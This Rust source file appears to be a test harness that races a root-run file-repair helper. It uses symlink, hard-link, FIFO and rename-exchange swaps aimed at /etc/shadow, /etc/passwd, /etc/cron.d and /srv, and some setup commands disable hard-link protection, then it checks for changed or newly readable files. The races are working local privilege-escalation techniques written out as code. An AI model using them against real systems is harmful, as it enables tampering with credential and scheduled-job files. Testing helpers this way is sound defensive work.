//! Strikes that are swaps in a loop, while root's helper runs again and again.

use std::fs::{self, OpenOptions};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};
use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};

use crate::manifest::{self, Digests};
use crate::round::{Helper, readable};
use crate::{Outcome, ground};

/// A race: the swap, and what root does before each run of the helper so that there is something
/// to repair again.
#[derive(Debug)]
pub struct Race {
    pub name: &'static str,
    /// Made once, by root.
    given: &'static str,
    /// Made before each run of the helper, by root. Never through a path of the user's.
    again: &'static str,
    /// What the user has prepared before the swaps begin.
    first: fn() -> std::io::Result<()>,
    /// One or two swaps.
    swap: fn(u64) -> std::io::Result<()>,
    /// The swaps need a right that users lack where fs.protected_hardlinks is on.
    as_root: bool,
}

const LOG: &str = "/var/log/projectmeats/error.log";
const APPENDED: &str = "/var/log/projectmeats/post_failure.log";
const OTHER: &str = "/var/log/projectmeats/.other";
const BACKEND: &str = "/opt/projectmeats/backend";

const STOP: &str = "/run/bout/stop";

/// All races.
pub const RACES: &[Race] = &[
    Race {
        name: "race-log-and-link",
        given: "",
        again: "",
        first: || {
            broken(LOG)?;
            symlink("/etc/shadow", OTHER)
        },
        swap: |_| exchange(LOG, OTHER),
        as_root: false,
    },
    Race {
        name: "race-log-link-and-nothing",
        given: "",
        again: "",
        first: || fs::remove_file(LOG),
        swap: |turn| match turn % 2 {
            0 => symlink("/etc/cron.d/evil", LOG),
            _ => fs::remove_file(LOG),
        },
        as_root: false,
    },
    Race {
        name: "race-log-and-hard-link",
        given: "echo 0 >/run/bout/off; mount --bind /run/bout/off /proc/sys/fs/protected_hardlinks; \
                ln /etc/shadow /var/log/projectmeats/.other",
        again: "",
        first: || broken(LOG),
        swap: |_| exchange(LOG, OTHER),
        as_root: false,
    },
    Race {
        name: "race-second-name-comes-and-goes",
        given: "echo 0 >/run/bout/off; mount --bind /run/bout/off /proc/sys/fs/protected_hardlinks",
        again: "",
        first: || fs::remove_file(LOG),
        swap: |turn| match turn % 2 {
            0 => fs::hard_link("/etc/passwd", LOG),
            _ => fs::remove_file(LOG),
        },
        as_root: true,
    },
    Race {
        name: "race-log-and-fifo",
        given: "",
        again: "",
        first: || {
            broken(APPENDED)?;
            Command::new("/usr/bin/mkfifo").arg(OTHER).status().map(drop)
        },
        swap: |_| exchange(APPENDED, OTHER),
        as_root: false,
    },
    Race {
        name: "race-parent-of-media",
        given: "install -d -m 700 /srv/victim/media",
        again: "",
        first: || {
            fs::set_permissions(
                "/opt/projectmeats/backend/media",
                fs::Permissions::from_mode(0o500),
            )?;
            symlink("/srv/victim", "/opt/projectmeats/.other")
        },
        swap: |_| exchange(BACKEND, "/opt/projectmeats/.other"),
        as_root: false,
    },
    Race {
        name: "race-made-directory",
        given: "",
        again: "",
        first: || {
            fs::remove_dir("/opt/projectmeats/backend/media")?;
            symlink("/srv/victim", "/opt/projectmeats/backend/.other")
        },
        // What root makes is taken away, and a link stands there for a moment.
        swap: |turn| {
            let media = "/opt/projectmeats/backend/media";
            match turn % 3 {
                0 => fs::rename("/opt/projectmeats/backend/.other", media).or(Ok(())),
                1 => fs::rename(media, "/opt/projectmeats/backend/.other").or(Ok(())),
                _ => fs::remove_dir(media).or(Ok(())),
            }
        },
        as_root: false,
    },
    Race {
        name: "race-env-and-link",
        given: "",
        again: "chown projectmeats: /etc/projectmeats; chmod 775 /etc/projectmeats; \
                cd /etc/projectmeats && chown -h projectmeats: projectmeats.env .other 2>/dev/null; :",
        first: || {
            let env = "/etc/projectmeats/projectmeats.env";
            while symlink("/etc/shadow", "/etc/projectmeats/.other").is_err() {}
            fs::remove_file(env)?;
            fs::write(env, "export A=1\nSECRET_KEY==abc\n")
        },
        swap: |_| {
            exchange("/etc/projectmeats/projectmeats.env", "/etc/projectmeats/.other").or(Ok(()))
        },
        as_root: false,
    },
];

/// By name.
pub fn named(name: &str) -> Option<&'static Race> {
    RACES.iter().find(|race| race.name == name)
}

/// A log of the user's that needs every repair.
fn broken(path: &str) -> std::io::Result<()> {
    fs::remove_file(path)?;
    OpenOptions::new().write(true).create_new(true).mode(0o400).open(path).map(drop)
}

fn exchange(one: &str, other: &str) -> std::io::Result<()> {
    Ok(renameat2(AT_FDCWD, one, AT_FDCWD, other, RenameFlags::RENAME_EXCHANGE)?)
}

/// The user's side: swaps until the file `/run/bout/stop` appears; prints how often.
pub fn swap(name: &str) -> Result<()> {
    let race = named(name).context("no such race")?;
    let mut turns: u64 = 0;
    let mut failures: u64 = 0;
    while turns % 512 != 0 || !Path::new(STOP).exists() {
        failures += u64::from((race.swap)(turns).is_err());
        turns += 1;
        // What root repaired in between is broken again.
        if turns % 256 == 0 {
            let _ = fs::set_permissions(LOG, fs::Permissions::from_mode(0o400));
            let _ = std::os::unix::fs::lchown(LOG, None, Some(nix::unistd::getgid().as_raw()));
        }
    }
    println!("{} {failures}", turns - failures);
    Ok(())
}

/// The user's preparation.
pub fn prepare(name: &str) -> Result<()> {
    Ok((named(name).context("no such race")?.first)()?)
}

/// Root's side: the helper, again and again for `time`, and the judgement.
pub fn run(race: &Race, helper: &Helper, time: Duration) -> Result<Outcome> {
    let mut digests = Digests::default();
    ground::lay()?;
    let _ = fs::remove_file(STOP);
    ground::root(race.given)?;
    let before = manifest::take(&mut digests);
    ground::root(race.again)?;
    let me = std::env::current_exe()?;
    let command = || if race.as_root { Command::new("/usr/bin/env") } else { ground::user() };
    let prepared = command().arg(&me).args(["prepare", race.name]).output()?;
    ensure!(
        prepared.status.success(),
        "{}: {}",
        race.name,
        String::from_utf8_lossy(&prepared.stderr)
    );
    let mut swapper = command();
    swapper.arg(&me).args(["swap", race.name]).stdin(Stdio::null()).stdout(Stdio::piped());
    let swapper = swapper.spawn()?;
    let begin = Instant::now();
    let mut outcome =
        Outcome { attack: race.name.to_owned(), helper: helper.name.clone(), ..Outcome::default() };
    while begin.elapsed() < time {
        let one = helper.run(&[])?;
        outcome.runs += 1;
        outcome.status = one.status;
        outcome.seconds = outcome.seconds.max(one.seconds);
        if one.status.is_none() {
            outcome.escapes.push("it hung".to_owned());
            break;
        }
        if helper.ours && ![helper.go, helper.stop].contains(&one.status.unwrap_or(-1)) {
            outcome.escapes.push(format!("exit status {:?}: {}", one.status, one.output));
            break;
        }
        // The whole root is looked at in the end; what is aimed at, after each run.
        if aimed_at(&mut digests).iter().any(|(path, line)| differs(before.get(path), line)) {
            break;
        }
        if !helper.ours && !readable()?.is_empty() {
            break;
        }
        if !race.again.is_empty() {
            ground::root(race.again)?;
        }
    }
    fs::write(STOP, "")?;
    let output = swapper.wait_with_output()?;
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let Some(swaps) = text.split_whitespace().next().and_then(|n| n.parse().ok()) else {
        bail!("{}: the swapper said {text:?}", race.name);
    };
    outcome.swaps = swaps;
    let now = manifest::take(&mut digests);
    outcome.escapes.extend(manifest::differences(&before, &now));
    outcome.escapes.retain(|l| !same_but_links(l));
    let told = readable()?.into_iter().map(|path| format!("the service can now read {path}"));
    outcome.escapes.extend(told);
    ground::root("umount /proc/sys/fs/protected_hardlinks 2>/dev/null; :")?;
    Ok(outcome)
}

fn aimed_at(digests: &mut Digests) -> manifest::Manifest {
    let mut all = manifest::Manifest::new();
    for top in ["/etc/cron.d", "/etc/passwd", "/etc/shadow", "/srv"] {
        manifest::below(Path::new(top), digests, &mut all);
    }
    all
}

fn differs(before: Option<&String>, now: &str) -> bool {
    before.is_none_or(|before| before != now && !same_but_links(&format!("x: {before} => {now}")))
}

/// The race itself makes and takes away second names of a victim.
fn same_but_links(line: &str) -> bool {
    let Some((before, after)) = line.split_once(": ").and_then(|(_, l)| l.split_once(" => "))
    else {
        return false;
    };
    let without = |text: &str| {
        let words: Vec<_> = text.split(' ').collect();
        let at = words.iter().position(|w| *w == "links");
        at.map(|at| [&words[..=at], words.get(at + 2..).unwrap_or_default()].concat().join(" "))
    };
    without(before).is_some() && without(before) == without(after)
}
